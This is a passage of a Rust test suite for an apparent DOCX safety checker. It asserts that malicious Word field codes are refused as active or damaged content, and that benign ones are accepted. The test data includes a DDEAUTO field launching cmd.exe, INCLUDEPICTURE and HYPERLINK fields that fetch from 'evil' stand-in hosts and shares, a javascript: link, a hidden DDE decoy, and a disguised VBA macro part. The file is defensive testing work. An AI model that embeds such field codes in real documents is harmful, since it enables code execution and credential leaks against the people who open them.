        "<a><f fldCharType=\"begin\"/><instrText>DD</instrText><f fldCharType=\"begin\"/></a>"
            .replace("f fld", "fldChar fld");
    for part in [
        field("DDEAUTO\"c:\\cmd.exe\""),
        field("INCLUDEPICTURE\"\\\\evil\\a\""),
        field("INCLUDEPICTURE \"https://evil.example/a.png\" \\d"),
        field("HYPERLINK \"file://evil/share\""),
        field("HYPERLINK javascript:alert(1)"),
        field(r"HYPERLINK \o &quot;Press&quot; &quot;\\evil\share&quot;"),
        nested,
        "<w:fldSimple x:instr=\"DDE cmd\"/>".to_owned(),
        "<wp15:webVideoPr embeddedHtml=\"&lt;iframe&gt;\"/>".to_owned(),
    ] {
        for name in ["word/document.xml", "word/a.xml", "word/b.dat"] {
            let file = docx_of(&[(name, &part)]);
            assert_eq!(judge(&file), Err(Refusal::Active), "{name} {part}");
        }
    }
    for part in [
        field(r"HYPERLINK &quot;https://bank.example&quot; \o &quot;The bank&quot;"),
        field("HYPERLINK \\l \"_Toc1\""),
        field("HYPERLINK mailto:jo@mail.example"),
        field("PAGE \\* MERGEFORMAT"),
        field("INCLUDEPICTURE \"https://bank.example/logo.png\" \\* MERGEFORMATINET"),
        "<a><fldChar fldCharType=\"begin\"/><instrText>=</instrText><fldChar fldCharType=\"begin\"/><instrText>PAGE</instrText><fldChar fldCharType=\"end\"/></a>".to_owned(),
    ] {
        assert_eq!(judge(&docx_of(&[("word/a.xml", &part)])), Ok(Docx), "{part}");
    }
    let decoy = "<w:fldSimple x:instr=\"PAGE\" w:instr=\"DDE cmd\"/>";
    assert_eq!(
        judge(&docx_of(&[("word/a.xml", decoy)])),
        Err(Refusal::Damaged)
    );
    let macros = CONTENT_TYPES.replace("<Types>", "<Types><Override PartName=\"/word/%61.dat\" ContentType=\"application/vnd.ms-office.vbaProject\"/>");
    let file = docx_of(&[("[Content_Types].xml", &macros), ("word/a.dat", "a")]);
    assert_eq!(judge(&file), Err(Refusal::Active));
    let twice = CONTENT_TYPES.replace(
        "<Types>",
        "<Types><Override PartName=\"/word/document.xml\" ContentType=\"text/plain\"/>",
    );
    let file = docx_of(&[("[Content_Types].xml", &twice)]);
    assert_eq!(judge(&file), Err(Refusal::Damaged));
    let bitmap = CONTENT_TYPES.replace(
        "<Types>",
        "<Types><Default Extension=\"bmp\" ContentType=\"image/x-ms-bmp\"/>",
    );
    let file = docx_of(&[
        ("[Content_Types].xml", &bitmap),
        ("word/media/vba.bmp", "BM"),
    ]);
    assert_eq!(judge(&file), Ok(Docx));
}
